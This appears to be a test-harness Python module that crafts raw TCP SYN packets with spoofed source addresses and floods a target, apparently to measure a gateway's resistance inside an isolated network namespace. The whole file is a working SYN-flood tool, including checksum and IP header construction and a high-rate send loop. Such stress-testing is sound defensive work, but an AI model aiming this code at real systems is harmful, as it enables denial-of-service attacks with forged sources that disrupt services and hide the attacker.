"""SYNs from addresses that answer nothing: raw sockets, in a network namespace of the trial's own."""
import random
import socket
import struct
import time

# Beyond a link whose other end takes nothing (trials/hostile/network.py), so that no RST takes the SYN back.
SILENT = "203.0.113."


def _checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(source, source_port, destination, port):
    tcp = struct.pack("!HHIIBBHHH", source_port, port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    check = _checksum(addresses + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    return header + tcp


class SYNFlood:
    def __init__(self, target):
        self._target = target
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        # Made ready: what is measured is the gateway's side.
        self._packets = [syn(f"{SILENT}{random.randrange(1, 255)}", random.randrange(1024, 65536), *target)
                         for _ in range(20_000)]
        self.sent = 0

    def turn(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for _ in range(64):
                self._socket.sendto(self._packets[self.sent % len(self._packets)], (self._target[0], 0))
                self.sent += 1
